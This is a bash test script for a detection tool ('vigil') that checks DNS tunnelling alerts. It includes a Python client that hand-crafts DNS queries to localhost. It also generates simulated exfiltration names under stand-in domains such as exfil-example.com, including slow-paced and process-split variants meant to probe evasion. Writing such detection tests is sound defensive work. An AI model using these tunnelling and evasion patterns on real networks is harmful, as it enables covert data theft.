#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# t2017: bursts and DNS tunnelling (docs/DETECTION.md §6). One process (python, no dig or
# nslookup) asks UDP DNS questions on port 53. Learned with two names, a rerun is quiet. Asking
# 30 hex-labelled names under one domain (a tunnel) raises the first R0005 at once, while the
# tunnel still runs, and folds the others into summaries that name the tunnel (dns_tunnel: the
# registered domain, unique names, longest label, entropy) at the scale's severity 8; a summary
# names at most 16 distinct names, so the 18th name closes the window and goes out itself:
# every name is in some alert. A CDN's pattern (three dozen distinct short host names under one
# domain) is alerts and summaries of severity 1, never called tunnelling. A tunnel slower than
# the window is named too (its names add up over its bursts), and so is one split over
# processes (a shell loop of one short-lived resolver per name). With --burst 0 every name is
# an alert.
if [ "$(id -u)" = 0 ] && [ -z "${VIGIL_T2017_NETNS:-}" ] && command -v unshare >/dev/null; then
	VIGIL_T2017_NETNS=1 exec unshare --net -- "$0" "$@"
fi
. "$(dirname "$0")/../lib/common.sh"
requires_root
requires_cmd ip python3
vigil_has watch || skip "vigil watch is not part of this build"

ip link set lo up
PROFILE=$TEST_TMP/p.yaml
NAMES=$TEST_TMP/names
GO=$TEST_TMP/go
CLIENT=$TEST_TMP/client.py
# one process: the first question, then (once $GO exists) the others; the same code whatever it
# asks, so a rerun differs from the learned run only in its names
cat >"$CLIENT" <<'PY_EOF'
import os, socket, struct, sys, time
names = [l.strip() for l in open(sys.argv[1]) if l.strip()]
go = sys.argv[2]
pause = float(open(sys.argv[3]).read())
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def ask(i, name):
    q = struct.pack(">HHHHHH", 0x4000 + i, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    s.sendto(q, ("127.0.0.1", 53))
for i, name in enumerate(names):
    ask(i, name)
    time.sleep(pause)
    if i == 0:
        deadline = time.monotonic() + 60
        while not os.path.exists(go) and time.monotonic() < deadline:
            time.sleep(0.05)
PY_EOF
PAUSE=$TEST_TMP/pause
echo 0 >"$PAUSE"
RUN=(python3 -I -S -B "$CLIENT" "$NAMES" "$GO" "$PAUSE")

printf 'api.learned.example\nmirror.learned.example\n' >"$NAMES"
touch "$GO"
"$VIGIL" learn --out "$PROFILE" --name tunnel -- "${RUN[@]}" >"$TEST_TMP/learn.out" \
	2>"$TEST_TMP/learn.err" || fail "vigil learn failed: $(cat "$TEST_TMP/learn.err")"
assert_file_contains "$PROFILE" "- api.learned.example"

# watch NAME [OPTIONS]: runs the client under vigil watch; with $GO absent the client waits after
# its first question until the first alert is in the file (it is sent at once, not at the end)
watch()
{
	local name=$1
	shift
	ALERTS=$TEST_TMP/alerts-$name.jsonl
	: >"$ALERTS"
	"$VIGIL" watch --profile "$PROFILE" --name tunnel --alerts "file:$ALERTS" "$@" -- \
		"${RUN[@]}" >"$TEST_TMP/watch-$name.out" 2>"$TEST_TMP/watch-$name.err" &
	WATCH_PID=$!
	if [ ! -e "$GO" ]; then
		wait_until 30 json_count_ge 1 "$ALERTS" rule_id=R0005 ||
			fail "$name: no alert while the client waits after its first question: $(cat "$TEST_TMP/watch-$name.err")"
		FIRST_BEFORE_END=$(json_count "$ALERTS")
		touch "$GO"
	fi
	wait "$WATCH_PID" || true
}

watch benign
assert_eq 0 "$(json_count "$ALERTS")" "alerts on a benign rerun: $(head -c 2000 "$ALERTS")"

# the tunnel (fast): 30 names, hex labels (32 digits) carrying data, under t.exfil-example.com
python3 -c '
import hashlib
for i in range(30):
    print("%s.%d.t.exfil-example.com" % (hashlib.sha256(b"secret-%d" % i).hexdigest()[:32], i))
' >"$NAMES"
rm -f "$GO"
watch tunnel --burst 60s --evidence "sqlite:$TEST_TMP/ev.db"
assert_eq 1 "$FIRST_BEFORE_END" "alerts while the tunnel ran (the first, at once)"
# the first; 16 folded; the 18th name (a 17th distinct key) closes the window (summary of 16)
# and goes out itself; 12 folded, summarised at the end
assert_eq 4 "$(json_count "$ALERTS" rule_id=R0005)" "R0005 alerts: the first, the 18th, two summaries: $(json_get "$ALERTS" message)"
assert_eq 3 "$(json_count "$ALERTS" dns_tunnel.domain=exfil-example.com severity=8)" \
	"tunnelling alerts with the domain (two summaries, the 18th name): $(head -c 3000 "$ALERTS")"
assert_eq 1 "$(json_count "$ALERTS" burst.count=16 dns_tunnel.unique_names=17)" "the first summary: 16 folded, 17 names so far"
assert_eq 1 "$(json_count "$ALERTS" burst.count=12 dns_tunnel.unique_names=30 dns_tunnel.max_label_len=32)" \
	"the last summary counts the 12 folded names, the tunnel all 30"
assert_eq 1 "$(json_count "$ALERTS" severity=1 event.domain~.0.t.exfil-example.com)" "the first alert, as before"
assert_contains "$(json_get "$ALERTS" message dns_tunnel?)" "DNS tunnelling to exfil-example.com"
python3 - "$ALERTS" "$NAMES" <<'PY_EOF'
import json, sys
alerts = [json.loads(l) for l in open(sys.argv[1]) if l.startswith("{")]
said = set()
for a in alerts:
    said.update(a.get("burst", {}).get("keys", []))
    if "burst" not in a:
        said.add(a["key"])
names = [l.strip() for l in open(sys.argv[2]) if l.strip()]
missing = [n for n in names if n not in said]
assert not missing, ("names in no alert", missing, said)
PY_EOF
FIRST_ID=$(json_get "$ALERTS" alert_id severity=1)
assert_eq "$FIRST_ID
$FIRST_ID" "$(json_get "$ALERTS" burst.opened_by burst?)" "the summaries name the first alert"
# the incident report: one incident, the tunnel in its summary (the headline leads at severity 8)
assert_eq 1 "$(json_get "$ALERTS" incident_id | sort -u | wc -l)" "the tunnel's alerts, one incident"
INC=$(json_get "$ALERTS" incident_id severity=1)
"$VIGIL" evidence show "$INC" --store "sqlite:$TEST_TMP/ev.db" --json >"$TEST_TMP/report.json" ||
	fail "evidence show $INC failed"
python3 - "$TEST_TMP/report.json" <<'PY_EOF'
import json, sys
r = json.load(open(sys.argv[1]))
assert "tunnelled data through DNS to exfil-example.com (30 names)" in r["summary"], r["summary"]
t = [a["dns_tunnel"] for a in r["alerts"] if "dns_tunnel" in a]
assert len(t) == 3 and all(x["domain"] == "exfil-example.com" for x in t), r["alerts"]
PY_EOF

# a CDN's pattern: 36 distinct short names under one domain, not tunnelling
python3 -c '
for i in range(36):
    print("%s%d.eu-west-%d.cdn-example.net" % (("img", "static", "media", "edge")[i % 4], i, i % 3))
' >"$NAMES"
rm -f "$GO"
watch cdn --burst 60s
# sent: the 1st, 18th and 35th names (16 distinct keys per summary); three summaries
assert_eq 6 "$(json_count "$ALERTS" rule_id=R0005)" "CDN names: three sent, three summaries: $(json_get "$ALERTS" message)"
assert_eq 33 "$(json_get "$ALERTS" burst.count burst? | paste -sd+ | bc)" "the summaries count the 33 folded names"
assert_eq 0 "$(json_count "$ALERTS" dns_tunnel?)" "a CDN's names called tunnelling: $(json_get "$ALERTS" message)"
assert_eq 0 "$(json_count "$ALERTS" severity!=1)" "CDN names above severity 1"

# no bursts: one alert per name, as before
touch "$GO"
watch nobursts --burst 0
assert_eq 36 "$(json_count "$ALERTS" rule_id=R0005)" "with --burst 0, one alert per name"
assert_eq 0 "$(json_count "$ALERTS" burst?)" "with --burst 0, no summary"

# a tunnel slower than the window (--burst 1s, a name every 1.3 s): each name is a burst of its
# own, sent at once; the names add up over the bursts, and from the 10th on each is named
python3 -c '
import hashlib
for i in range(12):
    print("%s.slow.exfil-example.org" % hashlib.sha256(b"slow-%d" % i).hexdigest()[:40])
' >"$NAMES"
echo 1.3 >"$PAUSE"
touch "$GO"
watch slow --burst 1s
echo 0 >"$PAUSE"
assert_eq 12 "$(json_count "$ALERTS" rule_id=R0005)" "slow tunnel: one alert per name: $(json_get "$ALERTS" message)"
assert_eq 0 "$(json_count "$ALERTS" burst?)" "slow tunnel: nothing folded"
assert_eq 3 "$(json_count "$ALERTS" dns_tunnel.domain=exfil-example.org severity=8)" \
	"slow tunnel: the 10th, 11th and 12th names named: $(json_get "$ALERTS" message)"
assert_eq 9 "$(json_count "$ALERTS" severity=1)" "slow tunnel: the first nine at severity 1"

# a tunnel split over processes: a shell loop starts one resolver per name (its own pid, one
# name each); the names add up in the tally of the workload and user, from the 10th on named
python3 -c '
import hashlib
for i in range(12):
    print("%s.split-example.org" % hashlib.sha256(b"split-%d" % i).hexdigest()[:40])
' >"$TEST_TMP/split-names"
cat >"$TEST_TMP/split.sh" <<SH_EOF
while read -r n; do
	echo "\$n" >"$TEST_TMP/one"
	python3 -I -S -B "$CLIENT" "$TEST_TMP/one" "$GO" "$PAUSE"
done <"$TEST_TMP/split-names"
SH_EOF
touch "$GO"
RUN=(bash "$TEST_TMP/split.sh")
watch split --burst 60s
assert_eq 12 "$(json_count "$ALERTS" rule_id=R0005)" "split tunnel: one alert per name (a process each): $(json_get "$ALERTS" message)"
assert_eq 3 "$(json_count "$ALERTS" rule_id=R0005 dns_tunnel.domain=split-example.org severity=8)" \
	"split tunnel: the 10th, 11th and 12th names named: $(json_get "$ALERTS" message rule_id=R0005)"

log "tunnel: $(json_get "$TEST_TMP/alerts-tunnel.jsonl" message dns_tunnel?)"
echo "ok: $TEST_NAME"
